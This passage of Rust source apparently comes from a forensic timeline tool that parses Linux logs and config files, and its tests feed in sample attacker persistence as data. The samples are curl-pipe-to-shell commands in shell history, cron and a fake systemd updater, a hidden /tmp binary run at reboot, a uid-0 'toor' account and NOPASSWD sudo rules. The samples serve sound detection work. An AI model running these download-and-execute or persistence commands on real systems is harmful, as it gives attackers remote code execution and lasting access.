        e.message = one_line(&format!("sudoers {action}: {line}"));
        e.locator = format!("line {n}");
        sink.record(e, Record::bytes(line.as_bytes()));
    }
}

struct SudoRule<'a> {
    users: &'a str,
    hosts: &'a str,
    runas: Option<&'a str>,
    tags: Vec<&'a str>,
    commands: &'a str,
}

/// `users hosts = [(runas)] [TAG: ...] commands` (only the first host
/// specification of a line is split out; the rest stay in `commands`).
fn sudo_rule(line: &str) -> Option<SudoRule<'_>> {
    let (left, right) = line.split_once('=')?;
    let left = left.trim();
    let (users, hosts) = left.rsplit_once(char::is_whitespace)?;
    let (users, hosts) = (users.trim(), hosts.trim());
    if users.is_empty() || hosts.is_empty() {
        return None;
    }
    let mut rest = right.trim();
    let mut runas = None;
    if let Some(r) = rest.strip_prefix('(') {
        let (inside, after) = r.split_once(')')?;
        runas = Some(inside.trim());
        rest = after.trim_start();
    }
    let mut tags = Vec::new();
    loop {
        let word_end = rest.find(':');
        let Some(end) = word_end else { break };
        let word = rest.get(..end).unwrap_or("");
        if word.is_empty() || !word.chars().all(|c| c.is_ascii_uppercase() || c == '_') {
            break;
        }
        tags.push(word);
        rest = rest.get(end + 1..).unwrap_or("").trim_start();
    }
    Some(SudoRule {
        users,
        hosts,
        runas,
        tags,
        commands: rest.trim(),
    })
}

// --------------------------------------------------------------- packages

/// `/var/log/dpkg.log`: `YYYY-MM-DD HH:MM:SS ACTION ...` → `dpkg.<action>`
/// (install, upgrade, remove, purge, configure, trigproc, status, startup,
/// conffile) with the package and its versions. dpkg writes the host's
/// local time with no zone: it is read as UTC, and each event's
/// `time_zone` attribute says so.
pub fn dpkg(bytes: &[u8], sink: &mut dyn Sink) {
    for (n, raw) in lines(bytes) {
        let line = text(raw);
        let t = line.trim();
        if t.is_empty() {
            continue;
        }
        let Some((f, rest)) = fields(t, 3) else {
            sink.problem(problem(
                format!("line {n}"),
                format!("not a dpkg.log line: {}", one_line(t)),
            ));
            continue;
        };
        let (Some(date), Some(clock), Some(verb)) = (f.first(), f.get(1), f.get(2)) else {
            continue;
        };
        let Some(time) = local_as_utc(date, clock) else {
            sink.problem(problem(
                format!("line {n}"),
                format!("no readable time at the start: {}", one_line(t)),
            ));
            continue;
        };
        let words: Vec<&str> = rest.split_whitespace().collect();
        let mut e = Event::new(time, Format::Dpkg.source(), format!("dpkg.{verb}"));
        let word = |i: usize| words.get(i).copied().filter(|v| *v != "<none>");
        match *verb {
            "install" | "upgrade" | "remove" | "purge" | "configure" | "trigproc" => {
                // `ACTION PKG OLD-VERSION NEW-VERSION`
                if let Some(p) = words.first() {
                    e.target = Some((*p).to_owned());
                    attr(&mut e, "package", *p);
                }
                if let Some(old) = word(1) {
                    attr(&mut e, "old_version", old);
                }
                if let Some(new) = word(2) {
                    attr(&mut e, "version", new);
                } else if let Some(old) = word(1)
                    && matches!(*verb, "remove" | "purge")
                {
                    attr(&mut e, "version", old);
                }
            }
            "status" => {
                // `status STATE PKG VERSION`
                if let Some(s) = words.first() {
                    attr(&mut e, "status", *s);
                }
                if let Some(p) = words.get(1) {
                    e.target = Some((*p).to_owned());
                    attr(&mut e, "package", *p);
                }
                if let Some(v) = word(2) {
                    attr(&mut e, "version", v);
                }
            }
            "conffile" => {
                if let Some(p) = words.first() {
                    e.target = Some((*p).to_owned());
                }
                if let Some(d) = words.get(1) {
                    attr(&mut e, "decision", *d);
                }
            }
            _ => {
                if !rest.is_empty() {
                    e.target = Some(rest.to_owned());
                }
            }
        }
        attr(&mut e, "time_zone", "host local, read as UTC");
        e.message = one_line(&format!("dpkg {verb} {rest}"));
        e.locator = format!("line {n}");
        sink.record(e, Record::bytes(raw));
    }
}

/// `YYYY-MM-DD` and `HH:MM:SS[,.fraction]` of a log written in local time, read as UTC.
fn local_as_utc(date: &str, clock: &str) -> Option<i64> {
    let d = date.as_bytes();
    let c = clock.as_bytes();
    let shape = d.len() == 10
        && d.get(4) == Some(&b'-')
        && d.get(7) == Some(&b'-')
        && c.len() >= 8
        && c.get(2) == Some(&b':')
        && c.get(5) == Some(&b':');
    if !shape {
        return None;
    }
    time_us(&format!("{date}T{}Z", clock.replace(',', ".")))
}

/// dnf's `dnf.rpm.log` and `dnf.log` (`2024-01-02T03:04:05+0000 LEVEL
/// TEXT`, also with `Z`), and yum's `yum.log` (`Jan 02 03:04:05 Installed:
/// pkg`, UTC assumed, its years found as syslog's are: see
/// [`super::yearless`]). Package transactions
/// become `dnf.install`, `dnf.upgrade`, `dnf.remove`, `dnf.reinstall`,
/// `dnf.downgrade`, `dnf.obsolete`, `dnf.cleanup`; dnf's `Command:` lines
/// `dnf.command`; other lines (debug output, lines without a time) are
/// skipped.
pub fn dnf(bytes: &[u8], ctx: &FileContext, sink: &mut dyn Sink) {
    // yum's stamps carry no year: read them all first (see `yearless`).
    let stamps = lines(bytes).filter_map(|(_, raw)| match dnf_line(&text(raw)) {
        DnfLine::Yum(stamp, _) => Some(stamp),
        _ => None,
    });
    let mut years = Years::new(ctx, stamps);
    for (n, raw) in lines(bytes) {
        let line = text(raw);
        let (time, level, body) = match dnf_line(&line) {
            DnfLine::Other => continue,
            DnfLine::Dnf(stamp, rest) => {
                let Some(time) = dnf_time(stamp) else {
                    continue;
                };
                let (level, body) = rest.trim_start().split_once(' ').unwrap_or((rest, ""));
                (time, Some(level), body.trim())
            }
            DnfLine::Yum(stamp, body) => match years.date(stamp) {
                Ok(time) => (time, None, body.trim()),
                Err(year) => {
                    sink.problem(problem(
                        format!("line {n}"),
                        format!("February 29 in {year}, a year without one"),
                    ));
                    continue;
                }
            },
        };
        let e = if let Some(cmd) = body.strip_prefix("Command:") {
            let mut e = Event::new(time, Format::Dnf.source(), "dnf.command");
            e.target = Some(cmd.trim().to_owned());
            e
        } else if let Some((verb, pkg)) = body.split_once(':')
            && let Some(action) = dnf_action(verb.trim())
            && !pkg.trim().is_empty()
            && !pkg.trim().contains(char::is_whitespace)
        {
            let pkg = pkg.trim();
            let mut e = Event::new(time, Format::Dnf.source(), format!("dnf.{action}"));
            e.target = Some(pkg.to_owned());
            let (name, version, arch) = nevra(pkg);
            attr(&mut e, "package", name);
            if let Some(v) = version {
                attr(&mut e, "version", v);
            }
            if let Some(a) = arch {
                attr(&mut e, "arch", a);
            }
            e
        } else {
            continue;
        };
        let mut e = e;
        if let Some(l) = level {
            attr(&mut e, "level", l);
        }
        e.message = one_line(body);
        e.locator = format!("line {n}");
        sink.record(e, Record::bytes(raw));
    }
}

fn dnf_action(verb: &str) -> Option<&'static str> {
    Some(match verb {
        "Installed" | "Install" | "Installing" => "install",
        "Upgraded" | "Upgrade" | "Upgrading" | "Updated" | "Update" => "upgrade",
        "Erased" | "Erase" | "Erasing" | "Removed" | "Remove" | "Removing" => "remove",
        "Reinstalled" | "Reinstall" | "Reinstalling" => "reinstall",
        "Downgraded" | "Downgrade" | "Downgrading" => "downgrade",
        "Obsoleted" | "Obsolete" | "Obsoleting" => "obsolete",
        "Cleanup" => "cleanup",
        _ => return None,
    })
}

/// `2024-01-02T03:04:05+0000`, `...Z`, `...+00:00`.
fn dnf_time(stamp: &str) -> Option<i64> {
    if !stamp.contains('T') {
        return None;
    }
    let b = stamp.as_bytes();
    let fixed = match b.len().checked_sub(5).and_then(|i| b.get(i..)) {
        Some([sign @ (b'+' | b'-'), h1, h2, m1, m2])
            if [h1, h2, m1, m2].iter().all(|c| c.is_ascii_digit()) =>
        {
            let head = stamp.get(..stamp.len() - 5)?;
            format!(
                "{head}{}{}{}:{}{}",
                char::from(*sign),
                char::from(*h1),
                char::from(*h2),
                char::from(*m1),
                char::from(*m2)
            )
        }
        _ => stamp.to_owned(),
    };
    time_us(&fixed)
}

/// A line of dnf's or yum's logs, by its time's shape.
enum DnfLine<'a> {
    /// dnf's `2024-01-02T03:04:05+0000 REST`: the stamp and the rest.
    Dnf(&'a str, &'a str),
    /// yum's `Jan 02 03:04:05 REST`.
    Yum(Stamp, &'a str),
    Other,
}

fn dnf_line(line: &str) -> DnfLine<'_> {
    let t = line.trim();
    if t.is_empty() {
        return DnfLine::Other;
    }
    if let Some((stamp, rest)) = t.split_once(' ')
        && stamp.as_bytes().first().is_some_and(u8::is_ascii_digit)
    {
        return DnfLine::Dnf(stamp, rest);
    }
    yum_stamp(t).map_or(DnfLine::Other, |(s, rest)| DnfLine::Yum(s, rest))
}

/// `Jan 02 03:04:05 REST` of yum.log: the stamp, its year to be found
/// (UTC assumed), and the rest.
fn yum_stamp(line: &str) -> Option<(Stamp, &str)> {
    let (f, rest) = fields(line, 3)?;
    let (Some(mon), Some(day), Some(clock)) = (f.first(), f.get(1), f.get(2)) else {
        return None;
    };
    let mut hms = clock.split(':').map(str::parse::<u8>);
    let (Some(Ok(h)), Some(Ok(m)), Some(Ok(s)), None) =
        (hms.next(), hms.next(), hms.next(), hms.next())
    else {
        return None;
    };
    Some((Stamp::new(month(mon)?, day.parse().ok()?, h, m, s)?, rest))
}

/// `[epoch:]name-version-release.arch` into the name, `version-release` and arch.
fn nevra(pkg: &str) -> (&str, Option<&str>, Option<&str>) {
    let pkg_no_epoch = match pkg.split_once(':') {
        Some((epoch, rest)) if epoch.chars().all(|c| c.is_ascii_digit()) => rest,
        _ => pkg,
    };
    let (nvr, arch) = match pkg_no_epoch.rsplit_once('.') {
        Some((nvr, arch))
            if [
                "x86_64", "noarch", "i686", "i386", "aarch64", "ppc64le", "s390x", "armv7hl", "src",
            ]
            .contains(&arch) =>
        {
            (nvr, Some(arch))
        }
        _ => (pkg_no_epoch, None),
    };
    let Some((nv, _release)) = nvr.rsplit_once('-') else {
        return (nvr, None, arch);
    };
    let Some((name, _version)) = nv.rsplit_once('-') else {
        return (nvr, None, arch);
    };
    let version = nvr.get(name.len() + 1..);
    (name, version, arch)
}

// ------------------------------------------------------------- cloud-init

/// cloud-init's logs, which of the two told by their lines.
pub fn cloud_init(bytes: &[u8], ctx: &FileContext, sink: &mut dyn Sink) {
    cloud_init_named("", bytes, ctx, sink);
}

/// cloud-init's logs at `member`:
///
/// - `cloud-init.log`: `2024-01-02 03:04:05,123 - module.py[LEVEL]: message`
///   → `cloud_init.<level>` (the time is UTC: cloud-init logs in UTC;
///   `time_zone` says so). Lines without a time of their own continue the
///   record before them (a traceback) and are skipped.
/// - `cloud-init-output.log`: the output of cloud-init's stages and of
///   user-data scripts, where only cloud-init's own lines carry a time
///   (`Cloud-init v. 23.4 running 'init' at Tue, 02 Jan 2024 03:04:05 +0000.`
///   → `cloud_init.stage`). Every other line becomes `cloud_init.output`,
///   dated by the last dated line before it (`dated_by=line N`), or, before
///   any, by the file's modification time (`dated=false`).
///
/// A file not named either way is read as `cloud-init.log` if its first
/// non-blank line is such a record, else as the output log.
pub fn cloud_init_named(member: &str, bytes: &[u8], ctx: &FileContext, sink: &mut dyn Sink) {
    let name = segments(member).last().copied().unwrap_or("");
    let output = if name.starts_with("cloud-init-output") {
        true
    } else if name.starts_with("cloud-init.log") {
        false
    } else {
        lines(bytes)
            .map(|(_, raw)| text(raw))
            .find(|l| !l.trim().is_empty())
            .is_none_or(|l| cloud_log_line(l.trim()).is_none())
    };
    let mut undated = Undated::new(ctx);
    let mut last: Option<(i64, usize)> = None;
    for (n, raw) in lines(bytes) {
        let line = text(raw);
        let t = line.trim();
        if t.is_empty() {
            continue;
        }
        if let Some(rec) = cloud_log_line(t) {
            let level = rec.level.to_ascii_lowercase();
            let mut e = Event::new(
                rec.time,
                Format::CloudInit.source(),
                format!("cloud_init.{level}"),
            );
            attr(&mut e, "module", rec.module);
            attr(&mut e, "level", rec.level);
            attr(&mut e, "time_zone", "UTC");
            e.message = one_line(rec.message);
            e.locator = format!("line {n}");
            sink.record(e, Record::bytes(raw));
            last = Some((rec.time, n));
            continue;
        }
        if !output {
            continue;
        }
        if let Some((time, stage)) = cloud_stage_line(t) {
            let mut e = Event::new(time, Format::CloudInit.source(), "cloud_init.stage");
            if let Some(s) = stage {
                attr(&mut e, "stage", s);
            }
            e.message = one_line(t);
            e.locator = format!("line {n}");
            sink.record(e, Record::bytes(raw));
            last = Some((time, n));
            continue;
        }
        let mut e = match last {
            Some((time, at)) => {
                let mut e = Event::new(time, Format::CloudInit.source(), "cloud_init.output");
                attr(&mut e, "dated_by", format!("line {at}"));
                e
            }
            None => undated.event(Format::CloudInit, "cloud_init.output", sink),
        };
        attr(&mut e, "text", t);
        e.message = one_line(t);
        e.locator = format!("line {n}");
        sink.record(e, Record::bytes(raw));
    }
}

struct CloudLogLine<'a> {
    time: i64,
    module: &'a str,
    level: &'a str,
    message: &'a str,
}

/// `2024-01-02 03:04:05,123 - module.py[LEVEL]: message`
fn cloud_log_line(line: &str) -> Option<CloudLogLine<'_>> {
    let (f, rest) = fields(line, 2)?;
    let time = local_as_utc(f.first()?, f.get(1)?)?;
    let rest = rest.strip_prefix("- ")?;
    let (tag, message) = rest.split_once("]:")?;
    let (module, level) = tag.split_once('[')?;
    if module.is_empty() || module.contains(char::is_whitespace) || level.is_empty() {
        return None;
    }
    if !level.chars().all(|c| c.is_ascii_alphabetic()) {
        return None;
    }
    Some(CloudLogLine {
        time,
        module,
        level,
        message: message.trim(),
    })
}

/// `Cloud-init v. 23.4 running 'init' at Tue, 02 Jan 2024 03:04:05 +0000. Up 5.1 seconds.`
/// and `Cloud-init v. 23.4 finished at Tue, 02 Jan 2024 03:05:00 +0000. ...`: the time,
/// and the stage when it runs one (`finished` otherwise).
fn cloud_stage_line(line: &str) -> Option<(i64, Option<&str>)> {
    let rest = line.strip_prefix("Cloud-init v. ")?;
    let (head, tail) = rest.split_once(" at ")?;
    let stage = if let Some((_, s)) = head.split_once(" running '") {
        s.strip_suffix('\'')
    } else if head.ends_with(" finished") {
        Some("finished")
    } else {
        None
    };
    // The date runs to its zone: `Tue, 02 Jan 2024 03:04:05 +0000`.
    let (f, _) = fields(tail, 6)?;
    let date = f.join(" ");
    let date = date.trim_end_matches('.');
    let t = OffsetDateTime::parse(date, &Rfc2822).ok()?;
    Some((to_us(t), stage))
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;
    use crate::timeline::parse::{Collect, parse_with};

    const MTIME: i64 = 1_700_000_000_000_000;

    fn ctx() -> FileContext {
        FileContext {
            year_hint: 2024,
            modified_us: Some(MTIME),
            collected_us: None,
        }
    }

    fn run(f: impl FnOnce(&mut Collect)) -> Collect {
        let mut c = Collect::default();
        f(&mut c);
        c
    }

    fn us(t: &str) -> i64 {
        time_us(t).unwrap()
    }

    #[test]
    fn bash_history_with_and_without_times() {
        let history = b"ls -la\n\
            #1704164645\n\
            curl -s http://203.0.113.9/x.sh | sh\n\
            #1704164700\n\
            for i in 1 2; do\n  echo $i\ndone\n\
            #not-a-time\n";
        let c = run(|c| shell_history_named("/home/alice/.bash_history", history, &ctx(), c));
        assert!(c.problems.is_empty(), "{:?}", c.problems);
        let cmds: Vec<_> = c
            .events
            .iter()
            .map(|e| e.attribute("command").unwrap())
            .collect();
        assert_eq!(
            cmds,
            [
                "ls -la",
                "curl -s http://203.0.113.9/x.sh | sh",
                "for i in 1 2; do\n  echo $i\ndone\n#not-a-time",
            ]
        );
        let first = &c.events[0];
        assert_eq!(first.time_us, MTIME);
        assert_eq!(first.attribute("dated"), Some("false"));
        assert_eq!(first.locator, "line 1");
        let second = &c.events[1];
        assert_eq!(second.time_us, us("2024-01-02T03:04:05Z"));
        assert_eq!(second.attribute("dated"), None);
        assert_eq!(second.actor.as_deref(), Some("alice"));
        assert_eq!(second.source, "shell");
        assert_eq!(second.action, "shell.command");
        assert_eq!(second.locator, "line 3");
        assert_eq!(
            second.message,
            "alice$ curl -s http://203.0.113.9/x.sh | sh"
        );
        // The multi-line entry is one line in the message.
        assert!(
            c.events[2].message.contains("do\\n  echo"),
            "{}",
            c.events[2].message
        );
        // Without a path the owner is not known; `/root` is root's.
        let c = run(|c| shell_history(b"id\n", &ctx(), c));
        assert_eq!(c.events[0].actor, None);
        let c = run(|c| shell_history_named("files/root/.bash_history", b"id\n", &ctx(), c));
        assert_eq!(c.events[0].actor.as_deref(), Some("root"));
    }

    #[test]
    fn zsh_extended_history_with_continuations_and_meta() {
        // zsh writes `é` (C3 A9) metafied: A9 as 0x83 then A9 xor 0x20.
        let mut history =
            b": 1704164645:3;echo one\n: 1704164650:0;printf 'a\\\nb'\\\necho done\n".to_vec();
        history.extend_from_slice(b": 1704164660:0;echo caf\xc3\x83\x89\n");
        history.extend_from_slice(b"plain line\n");
        let c = run(|c| shell_history_named("/home/bob/.zsh_history", &history, &ctx(), c));
        assert!(c.problems.is_empty(), "{:?}", c.problems);
        assert_eq!(c.events.len(), 4);
        assert_eq!(c.events[0].time_us, us("2024-01-02T03:04:05Z"));
        assert_eq!(c.events[0].attribute("elapsed_s"), Some("3"));
        assert_eq!(c.events[0].attribute("shell"), Some("zsh"));
        assert_eq!(
            c.events[1].attribute("command"),
            Some("printf 'a\nb'\necho done")
        );
        assert_eq!(c.events[1].locator, "line 2");
        assert_eq!(c.events[2].attribute("command"), Some("echo café"));
        assert_eq!(c.events[2].locator, "line 5");
        assert_eq!(c.events[3].attribute("dated"), Some("false"));
        assert_eq!(c.events[3].locator, "line 6");
        assert_eq!(c.events[3].actor.as_deref(), Some("bob"));
    }

    #[test]
    fn hostile_history_is_kept_as_data() {
        let mut history = b"echo \x1b[2J\x1b]0;owned\x07 done\n".to_vec();
        history.extend_from_slice(b"nul\0inside\n");
        history.extend_from_slice(b"bad \xff\xfe utf8\n");
        history.extend(std::iter::repeat_n(b'A', 1 << 20));
        history.push(b'\n');
        let c = run(|c| shell_history(&history, &FileContext::default(), c));
        assert_eq!(c.events.len(), 4);
        assert_eq!(
            c.events[0].attribute("command"),
            Some("echo \x1b[2J\x1b]0;owned\x07 done")
        );
        assert!(
            !c.events[0].message.contains('\x1b'),
            "{}",
            c.events[0].message
        );
        assert!(c.events[0].message.contains("\\u{1b}[2J"));
        assert_eq!(c.events[1].attribute("command"), Some("nul\0inside"));
        assert_eq!(
            c.events[2].attribute("command"),
            Some("bad \\xff\\xfe utf8")
        );
        assert_eq!(c.events[3].attribute("command").unwrap().len(), 1 << 20);
        assert!(c.events[3].message.chars().count() <= MESSAGE_MAX + 1);
        // No modification time: dated at the epoch, said once.
        assert!(c.events.iter().all(|e| e.time_us == 0));
        assert_eq!(c.problems.len(), 1, "{:?}", c.problems);
    }

    #[test]
    fn crontabs_system_user_and_specials() {
        let system = b"SHELL=/bin/sh\nPATH = /usr/local/bin:/usr/bin\nMAILTO=\"\"\n\
            # m h dom mon dow user command\n\
            17 *\t* * *\troot    cd / && run-parts --report /etc/cron.hourly\n\
            */5 9-17 * jan-mar mon-fri www-data /usr/bin/php /var/www/cron.php > /dev/null 2>&1\n\
            @reboot root /tmp/.x/kworker\n\
            @sometimes root nope\n\
            not a line\n";
        let c = run(|c| crontab_named("/etc/cron.d/job", system, &ctx(), c));
        assert_eq!(c.events.len(), 3, "{:?}", c.events);
        let e = &c.events[0];
        assert_eq!((e.source, e.action.as_str()), ("persistence", "cron.job"));
        assert_eq!(
            e.target.as_deref(),
            Some("cd / && run-parts --report /etc/cron.hourly")
        );
        assert_eq!(e.attribute("schedule"), Some("17 * * * *"));
        assert_eq!(e.attribute("user"), Some("root"));
        assert_eq!(e.attribute("dated"), Some("false"));
        assert_eq!(e.time_us, MTIME);
        assert_eq!(e.locator, "line 5");
        assert_eq!(c.events[1].attribute("user"), Some("www-data"));
        assert_eq!(
            c.events[1].attribute("schedule"),
            Some("*/5 9-17 * jan-mar mon-fri")
        );
        assert_eq!(c.events[2].attribute("schedule"), Some("@reboot"));
        assert_eq!(c.events[2].target.as_deref(), Some("/tmp/.x/kworker"));
        let lines: Vec<_> = c.problems.iter().map(|p| p.locator.as_str()).collect();
        assert_eq!(lines, ["line 8", "line 9"]);

        let user = b"MAILTO=bob@example.com\n0 3 * * * /home/bob/backup.sh --all\n@hourly curl -fsS https://203.0.113.5/p | bash\n";
        for path in ["/var/spool/cron/crontabs/bob", "/var/spool/cron/bob"] {
            let c = run(|c| crontab_named(path, user, &ctx(), c));
            assert!(c.problems.is_empty());
            assert_eq!(c.events.len(), 2);
            assert_eq!(c.events[0].attribute("user"), Some("bob"), "{path}");
            assert_eq!(
                c.events[0].target.as_deref(),
                Some("/home/bob/backup.sh --all")
            );
            assert_eq!(
                c.events[1].target.as_deref(),
                Some("curl -fsS https://203.0.113.5/p | bash")
            );
            assert_eq!(c.events[1].attribute("kind"), Some("user"));
        }
        // Without a path: a leading path is a command, a name a user.
        let c = run(|c| {
            crontab(
                b"0 3 * * * /home/bob/backup.sh\n0 4 * * * root /bin/x y\n",
                &ctx(),
                c,
            )
        });
        assert_eq!(c.events[0].attribute("kind"), Some("guessed-user"));
        assert_eq!(c.events[1].attribute("user"), Some("root"));
        assert_eq!(c.events[1].target.as_deref(), Some("/bin/x y"));
    }

    #[test]
    fn systemd_service_timer_and_drop_in() {
        let service = b"# a comment\n[Unit]\nDescription=Totally legit updater\n\n\
            [Service]\nType=simple\nUser=root\nExecStart=/usr/bin/bash -c \\\n  'curl http://203.0.113.7/u | sh'\nRestart=always\n\n\
            [Install]\nWantedBy=multi-user.target\n";
        let c =
            run(|c| systemd_unit_named("/etc/systemd/system/updater.service", service, &ctx(), c));
        assert!(c.problems.is_empty(), "{:?}", c.problems);
        let e = &c.events[0];
        assert_eq!(
            (e.source, e.action.as_str()),
            ("persistence", "systemd.service")
        );
        assert_eq!(
            e.target.as_deref(),
            Some("/usr/bin/bash -c 'curl http://203.0.113.7/u | sh'")
        );
        assert_eq!(e.attribute("User"), Some("root"));
        assert_eq!(e.attribute("WantedBy"), Some("multi-user.target"));
        assert_eq!(e.attribute("Description"), Some("Totally legit updater"));
        assert_eq!(e.attribute("unit"), Some("updater.service"));
        assert_eq!(e.attribute("dated"), Some("false"));
        assert_eq!(e.locator, "line 8");
        // Unnamed: the kind from the section.
        let c = run(|c| systemd_unit(service, &ctx(), c));
        assert_eq!(c.events[0].action, "systemd.service");

        let timer = b"[Unit]\nDescription=Run it\n[Timer]\nOnCalendar=*-*-* 03:00:00\nOnBootSec=5min\n[Install]\nWantedBy=timers.target\n";
        let c = run(|c| systemd_unit_named("/etc/systemd/system/updater.timer", timer, &ctx(), c));
        let e = &c.events[0];
        assert_eq!(e.action, "systemd.timer");
        assert_eq!(e.target.as_deref(), Some("updater.service"));
        assert_eq!(e.attribute("OnCalendar"), Some("*-*-* 03:00:00"));
        assert_eq!(e.attribute("OnBootSec"), Some("5min"));
        let with_unit = b"[Timer]\nOnUnitActiveSec=1h\nUnit=other.service\n";
        let c = run(|c| systemd_unit(with_unit, &ctx(), c));
        assert_eq!(c.events[0].action, "systemd.timer");
        assert_eq!(c.events[0].target.as_deref(), Some("other.service"));
        assert_eq!(c.events[0].locator, "line 3");

        // A drop-in that clears and replaces ExecStart.
        let drop_in = b"[Service]\nExecStart=\nExecStart=/tmp/evil\n";
        let c = run(|c| {
            systemd_unit_named(
                "/etc/systemd/system/ssh.service.d/override.conf",
                drop_in,
                &ctx(),
                c,
            )
        });
        assert_eq!(c.events[0].action, "systemd.service");
        assert_eq!(c.events[0].target.as_deref(), Some("/tmp/evil"));
        assert_eq!(c.events[0].attribute("unit"), Some("ssh.service"));

        let c = run(|c| systemd_unit(b"just text\n", &ctx(), c));
        assert!(c.events.is_empty());
        assert!(!c.problems.is_empty());
    }

    /// `ssh-keygen`, or a failure naming where CI installs it.
    fn ssh_keygen(args: &[&str]) -> String {
        let out = std::process::Command::new("ssh-keygen")
            .args(args)
            .output()
            .unwrap_or_else(|e| {
                panic!("ssh-keygen is missing ({e}): install openssh-client (scripts/emulators.sh installs it in CI)")
            });
        assert!(
            out.status.success(),
            "ssh-keygen {args:?}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        String::from_utf8(out.stdout).unwrap()
    }

    #[test]
    fn authorized_keys_fingerprints_match_ssh_keygen() {
        let dir = tempfile::tempdir().unwrap();
        let mut file = String::new();
        let mut want = Vec::new();
        let options = [
            "",
            "from=\"10.0.0.0/8,192.0.2.1\",command=\"/usr/bin/rrsync -ro /srv, then \\\"quoted\\\"\",no-pty ",
            "restrict,pty ",
        ];
        for (i, (kind, opts)) in [
            ("ed25519", options[0]),
            ("rsa", options[1]),
            ("ecdsa", options[2]),
        ]
        .into_iter()
        .enumerate()
        {
            let key = dir.path().join(format!("k{i}"));
            let comment = format!("user{i}@host {kind} key");
            ssh_keygen(&[
                "-q",
                "-t",
                kind,
                "-N",
                "",
                "-C",
                &comment,
                "-f",
                key.to_str().unwrap(),
            ]);
            let pubkey = std::fs::read_to_string(key.with_extension("pub")).unwrap();
            let printed = ssh_keygen(&["-lf", key.with_extension("pub").to_str().unwrap()]);
            // `BITS SHA256:... COMMENT (TYPE)`
            let fp = printed.split_whitespace().nth(1).unwrap().to_owned();
            want.push((
                fp,
                comment,
                pubkey.split_whitespace().next().unwrap().to_owned(),
            ));
            file.push_str(&format!("{opts}{pubkey}"));
        }
        file.push_str("# a comment\nssh-ed25519 !!!notbase64 x\n");
        std::fs::write(dir.path().join("authorized_keys"), &file).unwrap();
        // ssh-keygen reads the whole file, options and all: a second oracle.
        let listed = ssh_keygen(&["-lf", dir.path().join("authorized_keys").to_str().unwrap()]);
        let c = run(|c| {
            authorized_keys_named(
                "/home/alice/.ssh/authorized_keys",
                file.as_bytes(),
                &ctx(),
                c,
            )
        });
        assert_eq!(c.events.len(), 3, "{:?}", c.problems);
        for (e, (fp, comment, kind)) in c.events.iter().zip(&want) {
            assert_eq!(e.action, "ssh.authorized_key");
            assert_eq!(e.attribute("fingerprint"), Some(fp.as_str()));
            assert!(listed.contains(fp.as_str()), "{listed}");
            assert_eq!(e.attribute("comment"), Some(comment.as_str()));
            assert_eq!(e.attribute("key_type"), Some(kind.as_str()));
            assert_eq!(e.actor.as_deref(), Some("alice"));
            assert_eq!(e.attribute("dated"), Some("false"));
        }
        let rsa = &c.events[1];
        assert_eq!(rsa.attribute("from"), Some("10.0.0.0/8,192.0.2.1"));
        assert_eq!(
            rsa.attribute("command"),
            Some("/usr/bin/rrsync -ro /srv, then \"quoted\"")
        );
        assert!(rsa.attribute("options").unwrap().ends_with("no-pty"));
        assert_eq!(c.events[2].attribute("options"), Some("restrict,pty"));
        assert_eq!(c.problems.len(), 1);
        assert_eq!(c.problems[0].locator, "line 5");
    }

    #[test]
    fn accounts_groups_and_sudoers() {
        let pw = b"root:x:0:0:root:/root:/bin/bash\n\
            daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n\
            toor:x:0:0::/root:/bin/bash\n\
            guest::1001:1001:Guest,,,:/home/guest:/bin/sh\n\
            +@netgroup\n\
            broken:x:1\n";
        let c = run(|c| passwd(pw, &ctx(), c));
        let users: Vec<_> = c
            .events
            .iter()
            .map(|e| (e.action.as_str(), e.target.as_deref().unwrap()))
            .collect();
        assert_eq!(
            users,
            [
                ("account.user", "root"),
                ("account.user", "daemon"),
                ("account.user", "toor"),
                ("account.user", "guest"),
                ("account.nis", "+@netgroup")
            ]
        );
        assert_eq!(c.events[0].attribute("uid0_not_root"), None);
        assert_eq!(c.events[2].attribute("uid0_not_root"), Some("true"));
        assert_eq!(c.events[3].attribute("password"), Some("empty"));
        assert_eq!(c.events[3].attribute("shell"), Some("/bin/sh"));
        assert_eq!(c.events[0].source, "accounts");
        assert_eq!(c.problems.len(), 1);
        assert_eq!(c.problems[0].locator, "line 6");

        let gr = b"root:x:0:\nsudo:x:27:alice,mallory\nusers:x:100:\n";
        let c = run(|c| group(gr, &ctx(), c));
        assert_eq!(c.events.len(), 3);
        assert_eq!(c.events[1].action, "account.group");
        assert_eq!(c.events[1].attribute("members"), Some("alice,mallory"));
        assert_eq!(c.events[1].attribute("privileged"), Some("true"));
        assert_eq!(c.events[0].attribute("privileged"), None);

        let su = b"Defaults\tenv_reset\nDefaults:mallory !authenticate\n\
            # comment\n#1001 ALL=(ALL) ALL\n\
            Cmnd_Alias SHELLS = /bin/sh, /bin/bash\n\
            root\tALL=(ALL:ALL) ALL\n\
            %sudo ALL=(ALL:ALL) ALL\n\
            mallory ALL=(root) NOPASSWD: SETENV: /usr/bin/vim, \\\n    /usr/bin/less\n\
            @includedir /etc/sudoers.d\n#include /etc/sudoers.local\n\
            what is this\n";
        let c = run(|c| sudoers(su, &ctx(), c));
        let acts: Vec<_> = c
            .events
            .iter()
            .map(|e| (e.action.as_str(), e.locator.as_str()))
            .collect();
        assert_eq!(
            acts,
            [
                ("sudoers.defaults", "line 1"),
                ("sudoers.defaults", "line 2"),
                ("sudoers.rule", "line 4"),
                ("sudoers.alias", "line 5"),
                ("sudoers.rule", "line 6"),
                ("sudoers.rule", "line 7"),
                ("sudoers.rule", "line 8"),
                ("sudoers.include", "line 10"),
                ("sudoers.include", "line 11"),
            ]
        );
        assert_eq!(c.events[1].attribute("no_authentication"), Some("true"));
        assert_eq!(c.events[2].actor.as_deref(), Some("#1001"));
        let m = &c.events[6];
        assert_eq!(m.actor.as_deref(), Some("mallory"));
        assert_eq!(m.attribute("runas"), Some("root"));
        assert_eq!(m.attribute("nopasswd"), Some("true"));
        assert_eq!(m.attribute("tags"), Some("NOPASSWD,SETENV"));
        assert_eq!(m.target.as_deref(), Some("/usr/bin/vim, /usr/bin/less"));
        assert_eq!(c.events[4].attribute("nopasswd"), None);
        assert_eq!(c.events[5].attribute("users"), Some("%sudo"));
        assert_eq!(c.events[7].target.as_deref(), Some("/etc/sudoers.d"));
        assert_eq!(c.events[8].attribute("directive"), Some("#include"));
        assert_eq!(c.problems.len(), 1);
        assert_eq!(c.problems[0].locator, "line 12");
    }

    #[test]
    fn dpkg_log() {
        let log = b"2024-01-02 03:04:05 startup archives unpack\n\
